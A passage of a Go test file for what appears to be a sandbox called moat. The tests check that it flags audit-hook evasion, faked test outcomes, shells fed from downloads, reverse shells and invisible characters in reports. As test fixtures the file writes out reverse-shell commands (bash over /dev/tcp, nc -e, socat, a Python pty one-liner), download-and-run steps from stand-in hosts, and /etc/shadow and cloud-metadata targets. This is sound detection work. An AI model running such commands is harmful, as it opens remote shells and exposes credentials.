	for _, want := range []string{"169.254.169.254", "/etc/shadow", "/dev/tcp/203.0.113.9", "echo hi", "2 commands"} {
		if !strings.Contains(all.String(), want) {
			t.Errorf("no finding names %q:\n%s", want, all.String())
		}
	}
}

func TestTestClaims(t *testing.T) {
	t.Parallel()
	if fs := TestClaims([]moat.Event{{Source: "audit", Kind: moat.KindOutcomeHook, Path: "/work/x.py"}}, "test"); len(fs) != 0 {
		t.Errorf("the program's own claim of a hook counted: %+v", fs)
	}
	fs := TestClaims([]moat.Event{
		{Source: "fs", Kind: moat.KindOutcomeHook, Path: "/work/src/conftest.py", Detail: "sets a report's outcome"},
		{Source: "moat", Kind: moat.KindTestMismatch, Detail: "exit 0, JUnit XML 1 passed, 2 failed, 0 errors"},
	}, "test")
	if len(fs) != 2 || fs[0].Category != moat.CategoryEvasion || fs[0].Severity != moat.SeverityHigh || fs[0].Phase != "test" ||
		!strings.Contains(fs[0].Summary, "/work/src/conftest.py (sets a report's outcome)") || !strings.Contains(fs[1].Summary, "disagree") {
		t.Errorf("%+v", fs)
	}
}

func TestHookIntegrity(t *testing.T) {
	t.Parallel()
	// a Python child 36 of pid 11, and a signal sent by pid from
	child := func(ms int64, exe string) moat.Event {
		return moat.Event{TimeMS: ms, Source: "kernel", Kind: "exec", Path: exe, PID: 36, PPID: 11}
	}
	sig := func(ms int64, from int, target, detail string) moat.Event {
		return moat.Event{TimeMS: ms, Source: "audit", Kind: "signal", PID: from, Name: target, Detail: detail}
	}
	cases := []struct {
		name string
		evs  []moat.Event
		sev  moat.Severity // of the evasion finding; "" none
	}{
		{"python with hello", []moat.Event{
			{TimeMS: 1, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3.11", PID: 5},
			{TimeMS: 9, Source: "audit", Kind: "hello", PID: 5}}, ""},
		{"hello recorded a little before the kernel's exec", []moat.Event{
			{TimeMS: 8, Source: "audit", Kind: "hello", PID: 5},
			{TimeMS: 9, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 5}}, ""},
		{"python without hello", []moat.Event{
			{TimeMS: 1, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 5, Detail: "python3 -I -c x"}}, "medium"},
		{"hello of another process", []moat.Event{
			{TimeMS: 1, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 5},
			{TimeMS: 2, Source: "audit", Kind: "hello", PID: 6}}, "medium"},
		{"hello of the image before", []moat.Event{
			{TimeMS: 1, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 5},
			{TimeMS: 2, Source: "audit", Kind: "hello", PID: 5},
			{TimeMS: 3000, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 5}}, "medium"},
		// runnerlike's test_kill_self_child: Popen([sys.executable, ...]),
		// then send_signal(SIGTERM) before its site.py ran.
		{"stopped before its hook started", []moat.Event{
			child(1, "/work/.venv/bin/python"),
			sig(2, 11, "36", "os.kill signal 15")}, "low"},
		{"the signal recorded a little before the kernel's exec", []moat.Event{
			sig(1, 11, "36", "os.kill signal 9"),
			child(2, "/work/.venv/bin/python")}, "low"},
		{"its group signalled (start_new_session)", []moat.Event{
			child(1, "/usr/bin/python3"),
			sig(2, 11, "36", "os.killpg signal 9")}, "low"},
		{"signalled, but it connected first", []moat.Event{
			child(1, "/usr/bin/python3"),
			{TimeMS: 5, Source: "kernel", Kind: "connect", Addr: "203.0.113.9:443", PID: 36},
			sig(9, 11, "36", "os.kill signal 15")}, "medium"},
		{"signalled, but it ran a program", []moat.Event{
			child(1, "/usr/bin/python3"),
			sig(9, 11, "36", "os.kill signal 15"),
			child(10, "/usr/bin/curl")}, "medium"},
		{"another process signalled", []moat.Event{
			child(1, "/usr/bin/python3"),
			sig(2, 11, "37", "os.kill signal 15")}, "medium"},
		{"it signalled itself", []moat.Event{
			child(1, "/usr/bin/python3"),
			sig(2, 36, "36", "os.kill signal 15")}, "medium"},
		{"a signal long before this image", []moat.Event{
			sig(1, 11, "36", "os.kill signal 15"),
			child(9000, "/usr/bin/python3")}, "medium"},
		{"pytest is not an interpreter", []moat.Event{
			{TimeMS: 1, Source: "kernel", Kind: "exec", Path: "/work/.venv/bin/pytest", PID: 5}}, ""},
		{"a PATH miss", []moat.Event{
			{TimeMS: 1, Source: "kernel", Kind: "exec", Path: "/usr/local/bin/python3", PID: 5, Detail: "python3 x"},
			{TimeMS: 1, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 5, Detail: "python3 x"},
			{TimeMS: 3, Source: "audit", Kind: "hello", PID: 5}}, ""},
		// a script of env, env's exec of python3 and its hello in one ms
		// (docker, session 21): the hello is the python's
		{"env and python in the same millisecond", []moat.Event{
			{TimeMS: 352, Source: "audit", Kind: "hello", PID: 24},
			{TimeMS: 352, Source: "kernel", Kind: "exec", Path: "/tmp/t/helper1.py", PID: 24, SHA256: strings.Repeat("b", 64), Script: "#!/usr/bin/env python3"},
			{TimeMS: 352, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 24}}, ""},
		// ... but a python's hello is not its successor's in that ms
		{"python execs python in the same millisecond", []moat.Event{
			{TimeMS: 352, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 24},
			{TimeMS: 352, Source: "audit", Kind: "hello", PID: 24},
			{TimeMS: 352, Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 24, Detail: "python3 -S x"}}, "medium"},
		// a script run by a file with the interpreter's hash (a venv's
		// python) is an interpreter that must say hello
		{"a venv's script without hello", []moat.Event{
			{Source: moat.SourceMoat, Kind: moat.KindInterpreter, Path: "/usr/bin/python3.11", SHA256: strings.Repeat("a", 64)},
			{TimeMS: 5, Source: "kernel", Kind: "exec", Path: "/work/v/bin/tool", PID: 9, SHA256: strings.Repeat("c", 64), Script: "#!/work/v/bin/python", ScriptSHA256: strings.Repeat("a", 64)}}, "medium"},
		{"a venv's script with hello", []moat.Event{
			{Source: moat.SourceMoat, Kind: moat.KindInterpreter, Path: "/usr/bin/python3.11", SHA256: strings.Repeat("a", 64)},
			{TimeMS: 5, Source: "kernel", Kind: "exec", Path: "/work/v/bin/tool", PID: 9, SHA256: strings.Repeat("c", 64), Script: "#!/work/v/bin/python", ScriptSHA256: strings.Repeat("a", 64)},
			{TimeMS: 9, Source: "audit", Kind: "hello", PID: 9}}, ""},
		{"objects listed", []moat.Event{{Source: "audit", Kind: "tamper", Name: "gc.get_objects", PID: 5}}, "low"},
		{"frames walked from inside the hook", []moat.Event{{Source: "audit", Kind: "tamper", Name: "sys._getframe", PID: 5}}, "medium"},
	}
	for _, c := range cases {
		var got moat.Severity
		for _, f := range Analyze(c.evs) {
			if f.Category == moat.CategoryEvasion && (strings.Contains(f.Summary, "audit hook") && !strings.Contains(f.Summary, "did not report")) && f.Severity.Rank() > got.Rank() {
				got = f.Severity
			}
		}
		if got != c.sev {
			t.Errorf("%s: %q, want %q (%+v)", c.name, got, c.sev, Analyze(c.evs))
		}
	}
	if !isInterpreter("python3.12") || !isInterpreter("python") || isInterpreter("python-config") || isInterpreter("pytest") {
		t.Error("isInterpreter")
	}
}

// TestShellKinds: a download fed to a shell and a reverse shell are two
// findings. A reverse shell is a connection that becomes a shell's stdio
// (its own fds, or a parent's connection that carried no request); a
// shell with no script started after downloads alone ran what they
// fetched (stage2_chain: urlopen, then subprocess.run(["sh"], input=...)).
func TestShellKinds(t *testing.T) {
	t.Parallel()
	connect := func(pid int, addr string, ms int64) moat.Event {
		return moat.Event{Source: "kernel", Kind: "connect", Addr: addr, PID: pid, PPID: 1, TimeMS: ms}
	}
	sink := func(addr, host, p, detail string) moat.Event {
		return moat.Event{Source: "network", Kind: "connect", Addr: addr, Name: host, Path: p, Detail: detail}
	}
	shell := func(pid, ppid int, detail string, ms int64) moat.Event {
		return moat.Event{Source: "kernel", Kind: "exec", Path: "/usr/bin/sh", Detail: detail, PID: pid, PPID: ppid, TimeMS: ms}
	}
	const fed, reverse = "fed a download to a shell: downloaded ", "reverse shell: "
	const crit = "critical "
	cases := []struct {
		name      string
		evs       []moat.Event
		want, not string
	}{
		{"urlopen, then sh with the script on stdin", []moat.Event{
			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "get.evil-cdn.example", "/install.sh", "sinkholed tcp http GET host=get.evil-cdn.example"),
			shell(12, 11, "sh", 3)}, crit + fed + "get.evil-cdn.example/install.sh (GET)", reverse},
		{"an HTTPS download the sink decrypted", []moat.Event{
			connect(11, "198.18.0.2:443", 1), sink("198.18.0.2:443", "pastebin.com", "/raw/x", "sinkholed tcp tls sni=pastebin.com decrypted https GET host=pastebin.com"),
			shell(12, 11, "bash -s", 3)}, crit + fed + "pastebin.com/raw/x (GET)", reverse},
		{"a connection with no request, shell in the child (pty.spawn's shape)", []moat.Event{
			connect(11, "203.0.113.9:8888", 1), sink("203.0.113.9:8888", "", "", "sinkholed tcp"),
			shell(12, 11, "/bin/bash", 3)}, crit + reverse + "connected to 203.0.113.9:8888", fed},
		{"a download first, then a channel: the channel wins", []moat.Event{
			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
			connect(11, "203.0.113.9:4444", 2), sink("203.0.113.9:4444", "", "", "sinkholed tcp"),
			shell(12, 11, "sh", 3)}, crit + reverse + "connected to 203.0.113.9:4444", fed},
		{"no sink (network none): a connection that failed", []moat.Event{
			connect(11, "203.0.113.9:4444", 1), shell(12, 11, "sh", 3)}, crit + reverse, fed},
		{"a download, but the shell's own stdio is a socket", []moat.Event{
			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
			{Source: "kernel", Kind: "exec", Path: "/usr/bin/sh", Detail: "sh -i", Stdio: "0,1,2", PID: 11, TimeMS: 3}}, crit + reverse + "/usr/bin/sh with fds 0,1,2 on a socket", fed},
		{"a download, and a script to run: not fed", []moat.Event{
			connect(11, "198.18.0.1:80", 1), sink("198.18.0.1:80", "x.example", "/a", "sinkholed tcp http GET host=x.example"),
			shell(12, 11, "sh -c ls", 3)}, "low ran shell commands", fed},
		{"bash -i >& /dev/tcp", []moat.Event{shell(4, 1, "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 1)}, crit + "opened a reverse shell over /dev/tcp", fed},
		{"nc -e", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/nc", Detail: "nc -e /bin/sh 203.0.113.9 4444", PID: 4}}, crit + "wired a socket to a shell", fed},
		{"socat exec", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/socat", Detail: "socat tcp:203.0.113.9:4444 exec:/bin/sh,pty,stderr", PID: 4}}, crit + "wired a socket to a shell", fed},
		{"python's socket, dup2 and pty.spawn in one line", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 4,
			Detail: `python -c import os,pty,socket;s=socket.socket();s.connect(("203.0.113.9",8888));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")`}},
			crit + "wired a socket to a shell", fed},
	}
	for _, c := range cases {
		var got, not bool
		var sums []string
		for _, f := range Analyze(c.evs) {
			sums = append(sums, string(f.Severity)+" "+f.Summary)
			got = got || strings.HasPrefix(sums[len(sums)-1], c.want)
			not = not || strings.Contains(f.Summary, c.not)
		}
		if !got || not {
			t.Errorf("%s: want a finding with %q and none with %q; got %q", c.name, c.want, c.not, sums)
		}
	}
}

// TestSummaryInvisible: a name with a zero-width space, a bidi override
// or a newline in a finding is escaped on moat's summary line, so it
// neither looks like another name nor writes a line of its own.
func TestSummaryInvisible(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	WriteSummary(&b, &moat.Result{Findings: []moat.Finding{{Category: moat.CategoryPersistence, Severity: moat.SeverityHigh,
		Summary: "wrote /home/u/.config/autostart/a\u200bb.desktop\nPASSED \u202eexe"}}})
	out := b.String()
	for _, want := range []string{`a\u200bb.desktop`, `\nPASSED`, `\u202eexe`} {
		if !strings.Contains(out, want) {
			t.Errorf("summary %q lacks %s", out, want)
		}
	}
	if strings.Count(out, "\n") != 2 {
		t.Errorf("summary %q: want two lines", out)
	}
}

// TestPagesShowInvisible: a name with an invisible character or a bidi
// mark (zero-width space, byte-order mark, left-to-right mark) from the
// sandbox is shown escaped in the HTML page and in SARIF's messages, as on
// the summary line, so it does not read as another name there (red team,
// session 19: /work/z\u200bzz.pth was shown as /work/zzz.pth).
func TestPagesShowInvisible(t *testing.T) {
	t.Parallel()
	res := sample()
	res.Findings = append(res.Findings, moat.Finding{Category: moat.CategoryPersistence, Severity: moat.SeverityHigh,
		Summary: "created a .pth file: /work/z\u200bzz.pth /work/b\ufeffom.pth /work/m\u200erk.pth"})
	var h, s bytes.Buffer
	if err := WriteHTML(&h, res, HTMLOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := WriteSARIF(&s, res, SARIFOptions{}); err != nil {
		t.Fatal(err)
	}
	var log struct {
		Runs []struct {
			Results []struct {
				Message struct{ Text string }
			}
		}
	}
	if err := json.Unmarshal(s.Bytes(), &log); err != nil {
		t.Fatal(err)
	}
	msgs := ""
	for _, r := range log.Runs[0].Results {
		msgs += r.Message.Text + "\n"
	}
	for name, out := range map[string]string{"html": h.String(), "sarif": msgs} {
		if strings.ContainsAny(out, "\u200b\ufeff\u200e") {
			t.Errorf("%s holds an invisible character raw", name)
		}
		for _, want := range []string{`z\u200bzz.pth`, `b\ufeffom.pth`, `m\u200erk.pth`} {
			if !strings.Contains(out, want) {
				t.Errorf("%s lacks %s", name, want)
			}
		}
	}
}
